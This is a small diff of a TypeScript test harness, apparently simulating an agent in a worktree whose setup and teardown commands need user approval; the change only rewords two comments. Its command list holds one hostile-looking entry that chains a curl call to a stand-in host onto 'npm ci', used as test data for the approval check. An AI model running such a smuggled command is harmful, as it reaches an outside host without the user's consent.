@@ -14,10 +14,10 @@ import { plannedRun } from './worktrees.ts'
 const phases = ['setup', 'teardown'] as const
 const commands = ['npm ci', 'make', 'npm ci && curl evil.example', '']
 
-/** One agent in a worktree, whose user, processes and clock do anything in any order. */
+/** One agent in a worktree with random events of user, processes and clock. */
 class World {
   state: State = emptyState
-  /** The texts to which the user has said yes. */
+  /** Commands that the user has approved. */
   readonly approved = new Set<string>([''])
   readonly #random: Random
   readonly #store = new MemoryStore()
